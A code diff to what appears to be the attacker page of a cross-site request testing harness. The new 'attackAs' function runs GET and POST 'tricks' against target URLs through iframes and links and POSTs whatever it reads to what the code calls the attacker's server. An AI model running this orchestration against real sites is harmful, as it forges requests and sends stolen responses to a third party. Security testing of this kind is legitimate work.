@@ -5,7 +5,9 @@ const parameters = new URLSearchParams(location.search)
 const own = (path, query) => `${parameters.get('own') || location.origin}/${path}?${new URLSearchParams(query)}`
 const form = 'application/x-www-form-urlencoded'
 
-const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 2000))])
+/** Resolves after this time, or when the page has nothing else to do: on a busy machine, what is under way may take longer. */
+const after = (ms) => new Promise((done) => setTimeout(() => requestIdleCallback(done), ms))
+const soon = (promise) => Promise.race([promise, after(2000)])
 const settled = (target) =>
   soon(
     new Promise((done) => {
@@ -30,11 +32,14 @@ function readFrom(view) {
   }
 }
 
+/** Resolve when frames are removed. */
+const removals = []
+
 async function frame(attributes) {
   const element = await add('iframe', attributes)
   const read = readFrom(element.contentWindow)
   // A frame may send requests after it was loaded.
-  setTimeout(() => element.remove(), 1500)
+  removals.push(after(1500).then(() => element.remove()))
   return attributes.src ? read : ''
 }
 const html = (markup, more) => frame({ src: own('page', { html: markup, ...more }) }).then(() => '')
@@ -259,10 +264,9 @@ const posting = {
 }
 
 const tricks = { ...getting, ...posting }
-window.names = { getting: Object.keys(getting), posting: Object.keys(posting) }
 
 /** Tries these shots with a trick. Returns what the page could read. */
-window.attack = async (name, shots) => {
+async function attack(name, shots) {
   const read = await Promise.all(
     shots.map(async (shot) => {
       const url = new URL(shot.url)
@@ -276,4 +280,26 @@ window.attack = async (name, shots) => {
     }),
   )
   return read.filter(Boolean)
+}
+
+/** Tries every shot with every trick, or with those that are named, and reports to the attacker's server. */
+window.attackAs = async ({ gets, posts, only, atOnce }) => {
+  const volleys = [
+    ...Object.keys(getting).map((name) => ({ name, shots: gets })),
+    ...Object.keys(posting).map((name) => ({ name, shots: posts })),
+  ]
+  const waiting = volleys.filter(({ name }) => only === undefined || only.includes(name))
+  const read = []
+  const lane = async () => {
+    for (let next = waiting.shift(); next; next = waiting.shift()) read.push(...(await attack(next.name, next.shots)))
+  }
+  await Promise.all(Array.from({ length: atOnce }, lane))
+  await Promise.all(removals)
+  // Requests leave by priority, and then in order: when this prefetch is answered, no other request waits to be sent.
+  await new Promise((done) => {
+    const link = { rel: 'prefetch', href: `${gets[0].url}&last`, onload: done, onerror: done }
+    document.head.append(Object.assign(document.createElement('link'), link))
+  })
+  const report = { names: Object.keys(tricks), read }
+  await fetch(own('report', {}), { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
 }
